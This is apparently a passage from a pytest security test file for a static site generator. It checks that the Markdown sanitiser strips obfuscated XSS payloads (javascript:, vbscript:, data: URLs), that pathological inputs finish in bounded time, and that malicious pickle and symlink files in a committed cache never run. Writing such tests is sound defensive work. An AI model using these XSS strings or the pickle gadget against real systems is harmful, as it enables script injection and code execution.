                        link.click(no_wait_after=True)
                recorded = session.page.evaluate("() => window.__xss")
                assert recorded == [], f"{rel}: script ran: {recorded}"
                if rel in ("areas/firearms/", "", "indicators/fa-workshops/", "timeline/"):
                    assert total > 0 and drawn == total, f"{rel}: charts {drawn}/{total}"
                assert not session.page_errors, f"{rel}: {session.page_errors}"
            finally:
                session.close()


# -- pathological Markdown: completes, bounded ------------------------------------------

@pytest.mark.parametrize("html", [
    "[c](\x01javascript:alert(1))", "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<img src=\"javascript:alert(1)\">", "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>", "<a href=\"jav\u0000ascript:alert(1)\">x</a>",
])
def test_sanitiser_drops_script_urls(html: str) -> None:
    from sitegen import markdown

    out = markdown.render(html)
    assert executable_bits(out) == [], out
    # what survives is at most a relative link such as "jav\ufffdascript:alert(1)"
    assert not re.search(r"(?:href|src)=\"\s*(?:javascript|vbscript|data):", out, re.I), out


@pytest.mark.parametrize("body", ["[" * 20000, "*_" * 50000, ">" * 5000, "<" * 50000,
                                  "- " * 20000 + "x", "> " * 20000, "`" * 20000,
                                  "<div>" * 200000, "<ul><li>" * 20000],
                         ids=["brackets", "emphasis", "quotes", "angles", "lists",
                              "nested-quotes", "backticks", "divs", "html-lists"])
def test_pathological_markdown_is_bounded(body: str) -> None:
    from sitegen import markdown

    started = time.perf_counter()
    html = markdown.render(body)
    assert isinstance(html, str) and "<script" not in html
    assert time.perf_counter() - started < 30  # generous guard; real figures in bench/


def test_pathological_markdown_builds(tmp_path: Path) -> None:
    site = make_site(tmp_path / "site", {
        "content/activities/brackets.md": act(GOOD_FRONT, "[" * 20000),
        "content/pages/emphasis.md": "---\ntitle: Emphasis\n---\n\n" + "*_" * 50000 + "\n",
        "content/pages/divs.md": "---\ntitle: Divs\n---\n\n" + "<div>" * 200000 + "\n",
    })
    run = run_sitegen("build", site, timeout=120)
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    assert (site / "output/pages/emphasis/index.html").is_file()
    # nested too deep for the sanitiser: shown as text, not dropped and not parsed
    assert "&lt;div&gt;&lt;div&gt;" in (site / "output/pages/divs/index.html").read_text()


def test_build_writes_only_inside_output(tmp_path: Path) -> None:
    """Hostile ids and slugs are refused; a good build touches nothing outside output/."""
    site = make_site(tmp_path / "site", HOSTILE_FILES)
    before = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")}
    run = run_sitegen("build", site, cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    after = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")}
    # besides output/, only the build cache (documented, safe to delete) is written
    assert {p for p in after - before
            if not p.startswith(("site/output", "site/.sitegen-cache"))} == set()


class _Touch:
    """Unpickling this creates a file: the proof that a cache file was unpickled."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (open, (self.path, "w"))


def test_committed_cache_is_never_trusted(tmp_path: Path) -> None:
    """A pull request can commit .sitegen-cache/: no pickle from it runs, no symlink in it
    sends a write outside the output."""
    import pickle

    from sitegen import cache

    site = make_site(tmp_path / "site")
    proof = tmp_path / "UNPICKLED"
    victim = tmp_path / "victim"
    victim.mkdir()
    tag = cache.digest(str((site / "output").resolve()).encode()).hex()[:12]
    bomb = pickle.dumps((cache.stamp(), _Touch(str(proof))))
    cache_dir = site / cache.DIRNAME
    cache_dir.mkdir()
    for name in (*(f"{stem}-{n:02d}.pickle" for stem in ("docs", "texts") for n in range(cache.SHARDS)),
                 f"trees-{tag}.pickle"):
        (cache_dir / name).write_bytes(bomb)
        (cache_dir / ("x" * 32 + name)).write_bytes(bomb)
    spare = cache_dir / f"spare-{tag}"
    (spare / "activities").mkdir(parents=True)
    os.symlink(victim, spare / "activities" / "firearms-workshop")
    os.symlink(victim, spare / "pages")
    for _ in range(2):  # the second build reuses what the first one kept
        run = run_sitegen("build", site, cwd=tmp_path)
        assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
        assert not proof.exists()
        assert list(victim.iterdir()) == []
    assert (site / "output/activities/firearms-workshop/index.html").is_file()
    assert not (site / "output/pages").is_symlink()
